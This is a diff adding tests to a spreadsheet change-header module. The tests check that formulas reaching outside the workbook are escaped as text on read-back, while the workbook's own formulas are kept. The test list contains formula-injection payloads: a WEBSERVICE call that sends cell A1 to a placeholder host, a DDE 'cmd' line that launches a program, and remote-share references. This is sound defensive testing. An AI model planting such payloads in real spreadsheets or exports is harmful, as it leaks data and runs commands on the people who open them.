@@ -33,3 +33,26 @@ test("a switch of ten thousand rows fits what Excel on the web takes at once", (
   const once = formatHead({ ...firstHead("", "2020-01-01"), change }).length;
   expect(once).toBeLessThan(3_500_000);
 });
+
+test.each([
+  '=WEBSERVICE("https://example.com/?"&A1)', '=1+_xlfn.WEBSERVICE ("x"&A1)', '=IMAGE("https://example.com")', "=cmd|'/c calc'!A1", '=RTD("a",,"b")', "='\\\\host\\share\\[b.xlsx]S'!A1", "='https://example.com/[b.xlsx]S'!A1",
+])("a stored formula that reaches out comes back as text: %s", (formula) => {
+  const change = around({ cells: [{ id: "h1", column: "name", from: formula, to: "Ann" }], others: [{ sheet: "checks", row: 1, column: 1, from: formula, to: 1 }] });
+  const row = { id: "h9", name: "Bo", at: null, cells: { name: "Bo", "#7": formula } };
+  const head = parseHead(formatHead({ ...firstHead("", "2020-01-01"), change: { ...change, removed: [row], terms: [{ term: "sharesOutstanding", from: formula, to: 1, sourceFrom: formula, sourceTo: "" }] } }));
+  if (!head || head === "newer" || !head.change) throw new Error("not read");
+  expect(JSON.stringify(head.change)).not.toContain('"=');
+  expect(head.change.cells[0]!.from).toBe(`'${formula}`);
+  expect(head.change.removed[0]!.cells["#7"]).toBe(`'${formula}`);
+});
+
+test("a part whose change is none of ours is damaged, not a fault", () => {
+  const head = formatHead({ ...firstHead("", "2020-01-01"), change: around({ cells: [] }) });
+  expect(parseHead(head)).not.toBeNull();
+  expect(parseHead(head.replace('"columns":[]', `"columns":[{"column":"name","rows":7,"from":{"all":"x"},"to":{"all":1}}]`))).toBeNull();
+});
+
+test.each(["=[@Held]+[@Acquirable]", '=IF([@[Note | mark]]="a|b","https://example.com",SUM(A1:B2))', "=[Book2.xlsx]Sheet1!A1", "=MYIMAGE(1)"])("a stored formula of the workbook's own stays one: %s", (formula) => {
+  const head = parseHead(formatHead({ ...firstHead("", "2020-01-01"), change: around({ cells: [{ id: "h1", column: "name", from: formula, to: "Ann" }] }) }));
+  expect(head !== null && head !== "newer" && head.change!.cells[0]!.from).toBe(formula);
+});
